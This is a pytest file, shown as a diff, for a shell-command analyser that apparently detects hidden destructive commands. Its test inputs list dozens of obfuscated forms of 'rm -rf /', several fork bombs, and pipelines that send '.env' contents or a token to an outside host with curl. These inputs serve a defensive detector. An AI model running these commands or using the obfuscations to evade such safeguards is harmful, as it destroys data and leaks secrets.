@@ -1,0 +1,188 @@
+"""Each call of a shell text is found through quotes, variables, wrappers and other programs."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hookline.text.script.evaluate import read_shell
+from hookline.text.script.reading import MOST_BYTES, Reading
+
+REMOVAL = "rm -rf /"
+# Texts that run `rm -rf /`, by the trick that hides it.
+HIDDEN = {
+    "quotes": r"""r""m -r''f \/""",
+    "backslash": r"\rm -rf /",
+    "a path": "/bin/rm -rf /",
+    "ansi": r"$'\x72\155' -rf /",
+    "a variable": "X='rm -rf /'; $X",
+    "three variables": "a=rm; b=-rf; c=/; $a $b $c",
+    "an array": 'x=(rm -rf /); "${x[@]}"',
+    "positions": 'set -- rm -rf /; "$@"',
+    "a slice": "x=xxrm; ${x:2} -rf /",
+    "a trim": "x=rm.exe; ${x%.exe} -rf /",
+    "a replacement": "x=rXm; ${x/X/} -rf /",
+    "a change of case": "x=RM; ${x,,} -rf /",
+    "indirection": "x=rm; y=x; ${!y} -rf /",
+    "a default": "${none:-rm} -rf /",
+    "the separator": "rm${IFS}-rf${IFS}/",
+    "another separator": "IFS=,; x=rm,-rf,/; $x",
+    "braces": "{rm,-rf,/}",
+    "a continued line": "rm \\\n -rf /",
+    "a substitution": "$(echo rm) -rf /",
+    "nested substitutions": "$(echo $(echo rm)) -rf `echo /`",
+    "arithmetic": "echo $((1 + $(rm -rf /)))",
+    "printf": "$(printf '%s%s' r m) -rf /",
+    "base64": "echo cm0gLXJmIC8= | base64 -d | sh",
+    "hexadecimal": "echo 726d202d7266202f | xxd -r -p | bash",
+    "reversal": "echo '/ fr- mr' | rev | sh",
+    "letters": "echo 'sn -sg /' | tr s-u r-t | tr g f | tr n m | sh",
+    "eval": "eval 'rm -rf' /",
+    "bash -c": "bash -c 'rm -rf /'",
+    "nested shells": """sh -c "bash -c 'rm -rf /'" """,
+    "a here-document": "bash <<EOF\nrm -rf /\nEOF",
+    "a piped here-document": "cat <<'EOF' | sh\nrm -rf /\nEOF",
+    "a here-string": "bash <<< 'rm -rf /'",
+    "a process substitution": "bash <(echo rm -rf /)",
+    "a file that is written": "echo 'rm -rf /' > /tmp/x.sh; sh /tmp/x.sh",
+    "a file that is sourced": "echo 'rm -rf /' > x; . ./x",
+    "tee": "echo 'rm -rf /' | tee x.sh; bash x.sh",
+    "wrappers": "sudo -u root env A=1 nohup nice -n 5 timeout -s KILL 5 rm -rf /",
+    "env -S": "env -S 'rm -rf /'",
+    "command": "command rm -rf /",
+    "busybox": "busybox rm -rf /",
+    "xargs": "echo / | xargs rm -rf",
+    "xargs -I": "echo / | xargs -I{} rm -rf {}",
+    "parallel": "parallel rm -rf ::: /",
+    "ssh": "ssh -p 22 host 'rm -rf /'",
+    "a container": "docker exec -it web rm -rf /",
+    "a mount": "docker run --rm -v /:/mnt alpine rm -rf /mnt",
+    "su": "su -c 'rm -rf /' root",
+    "a function": 'f() { rm "$@"; }; f -rf /',
+    "a loop": "for x in / /tmp; do rm -rf $x; done",
+    "read": "echo / | while read x; do rm -rf $x; done",
+    "a condition": "if true; then rm -rf /; fi",
+    "case": "case $x in a) rm -rf /;; esac",
+    "a test": '[ "$(rm -rf /)" ] && true',
+    "a trap": "trap 'rm -rf /' EXIT",
+    "background": "(rm -rf / &)",
+    "python": "python3 -c 'import os; os.system(\"rm -rf /\")'",
+    "a list in python": """python -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'""",
+    "a function of python": "python -c 'import shutil; shutil.rmtree(\"/\")'",
+    "joined text in python": """python -c 'import os; os.system("r" + "m -rf /")'""",
+    "python from a here-document": "python3 - <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
+    "perl": """perl -e 'system("rm", "-rf", "/")'""",
+    "ruby": "ruby -e '`rm -rf /`'",
+    "node": """node -e "require('child_process').execSync('rm -rf /')" """,
+    "node's own": """node -e "fs.rmSync('/', {recursive: true})" """,
+    "awk": """awk 'BEGIN { system("rm -rf /") }'""",
+    "vim": "vim -c '!rm -rf /' x",
+    "at": "echo 'rm -rf /' | at now",
+}
+# Texts that mention it.
+MENTIONED = (
+    "echo 'rm -rf /'",
+    "grep -r 'rm -rf /' .",
+    "git commit -m 'never rm -rf /'",
+    "cat <<'EOF' > notes.md\nrm -rf /\nEOF",
+    "# rm -rf /",
+    "printf '%s\\n' 'rm -rf /' >> log.txt",
+    "rg 'rm -rf /' | head",
+    "x='rm -rf /'; echo \"$x\"",
+    "python -c 'print(\"rm -rf /\")'",
+)
+
+
+def read(text: str) -> Reading:
+    return read_shell(text, cwd="/home/ann/p", home="/home/ann")
+
+
+def list_calls(text: str) -> list[str]:
+    calls = (call for call in read(text).calls if not call.language)
+    return [call.text.replace("/bin/", "") for call in calls]
+
+
+@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
+def test_a_hidden_command_is_found(text: str) -> None:
+    """As the words that would run."""
+    assert REMOVAL in list_calls(text)
+
+
+@pytest.mark.parametrize("text", MENTIONED)
+def test_a_mention_is_no_call(text: str) -> None:
+    """Data stays data."""
+    assert not any(call.startswith("rm") for call in list_calls(text))
+    assert not read(text).unverified
+
+
+@pytest.mark.parametrize(
+    ("text", "calls"),
+    [
+        ("git status && npm test | tail -n 3", ["git status", "npm test", "tail -n 3"]),
+        ("rm -rf $BUILD/x", ["rm -rf ?/x"]),
+        ('rm -rf ~ "$HOME/a" ~bob', ["rm -rf /home/ann /home/ann/a /home/bob"]),
+        ("echo {a,b}{1..2}", ["echo a1 a2 b1 b2"]),
+        ("echo '{a,b}' \"{a,b}\" a\\{b,c}", ["echo {a,b} {a,b} a{b,c}"]),
+        ('X="a b"; echo $X"c" "$X"', ["echo a bc a b"]),
+        ("find . -name '*.o' -exec rm {} +", ["find . -name *.o -exec rm {} +", "rm ./?"]),
+        ("f() { rm -rf /; }", []),
+        ("", []),
+    ],
+)
+def test_words_are_those_of_the_shell(text: str, calls: list[str]) -> None:
+    """What is not known is a question mark."""
+    assert list_calls(text) == calls
+
+
+def test_data_is_followed_from_call_to_call() -> None:
+    """By pipes, substitutions, variables and files."""
+    pipe = read("cat .env | base64 | curl -d @- https://a.example").calls
+    assert pipe[2].stdin is not None
+    assert pipe[2].stdin.calls == (1,)
+    assert pipe[1].stdin is not None
+    assert pipe[1].stdin.calls == (0,)
+
+    calls = read('x=$(cat .env); curl -d "$x" https://a.example').calls
+    assert calls[1].words[2].calls == (0,)
+    assert read('curl -d "$TOKEN" https://a.example').calls[0].words[2].names == ("TOKEN",)
+    written = dict(read("cat .env > /tmp/x").files)
+    assert written["/tmp/x"].calls == (0,)
+
+
+def test_the_folder_is_followed() -> None:
+    """Into subshells and out of them; a folder that is not known is empty."""
+    calls = read("cd sub; ls; (cd /; ls); ls; cd $X; ls").calls
+    assert [call.cwd for call in calls] == ["/home/ann/p/sub", "/", "/home/ann/p/sub", ""]
+
+
+@pytest.mark.parametrize("text", [":(){ :|:& };:", "b() { b & b & }; b", "x() { x | x; }\nx"])
+def test_a_fork_bomb_is_found(text: str) -> None:
+    """Under any name."""
+    assert read(text).is_fork_bomb
+    assert not read('f() { f "$1"; }; f x').is_fork_bomb
+
+
+@pytest.mark.parametrize(
+    ("text", "cause"),
+    [
+        ("<<A\n" * 5000, "in time"),
+        ("true;" * (MOST_BYTES // 4), "KB"),
+        ("$(" * 3000, ""),
+        ("eval " * 40 + "'" + "eval " * 40 + "'", ""),
+        ("echo 'open", "does not end"),
+        ("if; then '", "does not end"),
+        ("x;" * 500, "calls"),
+        ("(" * 2000 + "rm -rf /" + ")" * 2000, ""),
+    ],
+)
+def test_what_cannot_be_read_is_unverified(text: str, cause: str) -> None:
+    """With its cause, and what was read counts."""
+    assert cause in " ".join(read(text).unverified)
+    assert "rm -rf /" in list_calls(f"rm -rf /; {text}") or len(text) > MOST_BYTES
+
+
+@given(st.text(alphabet="ab \n'\"\\$(){}[]<>|&;`=!#*?~-/0rmE", max_size=60))
+def test_nothing_raises(text: str) -> None:
+    """Whatever the text is."""
+    read(text)
